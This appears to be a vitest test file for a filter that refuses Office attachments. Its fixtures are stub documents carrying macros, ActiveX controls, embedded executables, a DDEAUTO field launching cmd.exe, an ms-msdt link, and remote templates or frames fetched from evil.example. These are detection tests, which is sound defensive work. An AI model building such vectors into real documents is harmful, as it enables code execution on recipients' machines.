import { describe } from 'vitest'
import { refused } from './refused-documents.ts'
import { contentTypes, letter, ole, program, relation, table, zip } from './sample-documents.ts'

const rels = 'word/_rels/document.xml.rels'
const settings = 'word/_rels/settings.xml.rels'

describe('an attachment is refused for the program that it carries, starts or fetches', () => {
  refused([
    [
      'a Word file with macros',
      '报名表.docx',
      zip(letter({ 'word/vbaProject.bin': 'x' })),
      'document-with-program',
    ],
    [
      'the same, written on Windows',
      '报名表.docx',
      zip({ 'word\\a.xml': 'x', 'word\\vbaProject.bin': 'x' }),
      'document-with-program',
    ],
    [
      'macros under another name',
      '报名表.docx',
      zip(
        letter({
          '[Content_Types].xml': contentTypes({
            '/word/styles2.bin': 'application/vnd.ms-office.vbaProject',
          }),
          'word/styles2.bin': 'x',
        }),
      ),
      'document-with-program',
    ],
    [
      'macros that a pointer alone betrays, in UTF-16',
      '报名表.docx',
      zip(
        letter({
          [rels]: Buffer.from(
            `\uFEFF${relation('vbaProject', 'a.bin', false).replace('UTF-8', 'UTF-16')}`,
            'utf16le',
          ),
        }),
      ),
      'document-with-program',
    ],
    [
      'a table with macros called one without',
      '名单.xlsx',
      zip(
        table({
          '[Content_Types].xml': contentTypes({
            '/xl/workbook.xml': 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
          }),
        }),
      ),
      'document-with-program',
    ],
    [
      'a sheet of macros',
      '名单.xlsx',
      zip(table({ 'xl/macrosheets/sheet1.xml': '<x/>' })),
      'document-with-program',
    ],
    [
      'a control',
      '报名表.docx',
      zip(letter({ 'word/activeX/activeX1.xml': '<x/>' })),
      'document-with-program',
    ],
    [
      'a program among its pictures',
      '报名表.docx',
      zip(letter({ 'word/media/image1.png': program })),
      'document-with-program',
    ],
    [
      'a program by name',
      '报名表.docx',
      zip(letter({ 'word/embeddings/setup.exe': 'x' })),
      'document-with-program',
    ],
    [
      'a field that starts one',
      '报名表.docx',
      zip(letter({ 'word/document.xml': '<w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>' })),
      'document-with-program',
    ],
    [
      'a link that runs a script',
      '报名表.docx',
      zip(letter({ [rels]: relation('hyperlink', 'ms-msdt:/id PCWDiagnostic') })),
      'document-with-program',
    ],
    [
      'a file put in as an object',
      '报名表.docx',
      zip(letter({ 'word/embeddings/oleObject1.bin': ole({ '/\u0001Ole10Native': 'MZ' }) })),
      'document-with-object',
    ],
    [
      'an archive inside',
      '报名表.docx',
      zip(letter({ 'word/embeddings/a.zip': zip({ 'a.exe': 'x' }) })),
      'document-with-object',
    ],
    [
      'a table with macros inside a letter',
      '报名表.docx',
      zip(letter({ 'word/embeddings/Sheet1.xlsx': zip(table({ 'xl/vbaProject.bin': 'x' })) })),
      'document-with-program',
    ],
    [
      'a template from the network',
      '报名表.docx',
      zip(letter({ [settings]: relation('attachedTemplate', 'https://evil.example/a.dotm') })),
      'document-from-outside',
    ],
    [
      'a template spelt in entities',
      '报名表.docx',
      zip(letter({ [settings]: relation('attachedTemplate', '&#104;ttp://evil.example/a') })),
      'document-from-outside',
    ],
    [
      'a picture on a share',
      '报名表.docx',
      zip(letter({ [rels]: relation('image', 'file:///\\\\evil.example\\a.png') })),
      'document-from-outside',
    ],
    [
      'an object from the network',
      '报名表.docx',
      zip(letter({ [rels]: relation('frame', 'http://evil.example/a') })),
      'document-from-outside',
    ],
    [
      'entities of its own',
      '报名表.docx',
      zip(letter({ [rels]: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })),
      'not-that-document',
    ],
  ])
})
